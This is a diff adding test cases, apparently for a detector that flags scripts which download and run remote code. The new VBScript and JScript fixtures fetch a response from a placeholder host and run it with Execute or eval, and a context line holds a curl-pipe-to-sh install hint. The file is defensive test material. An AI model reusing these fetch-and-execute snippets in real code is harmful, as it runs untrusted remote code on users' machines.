@@ -108,4 +108,30 @@ export const DOWNLOADS: TextCases = {
       'a message that says how': ['source', 'println!("install it: curl -s https://tool.example/a.sh | sh");'],
     },
   },
+  script_runs_answer: {
+    hits: {
+      'Visual Basic': [
+        'vbscript',
+        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.example/a", False\nh.Send\nExecute h.responseText',
+      ],
+      JScript: [
+        'javascript',
+        'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("POST", "https://files.example/a", false); h.send("x"); var r = h.responseText; eval(r);',
+      ],
+    },
+    misses: {
+      'a logon script of the own network': [
+        'vbscript',
+        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://intranet/parts.vbs", False\nh.Send\nExecute h.responseText',
+      ],
+      'a library of the web': [
+        'javascript',
+        'var h = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "https://files.example/a", false); h.send(); eval(h.responseText);',
+      ],
+      'an answer that is shown': [
+        'vbscript',
+        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.example/a", False\nh.Send\nWScript.Echo h.responseText',
+      ],
+    },
+  },
 }
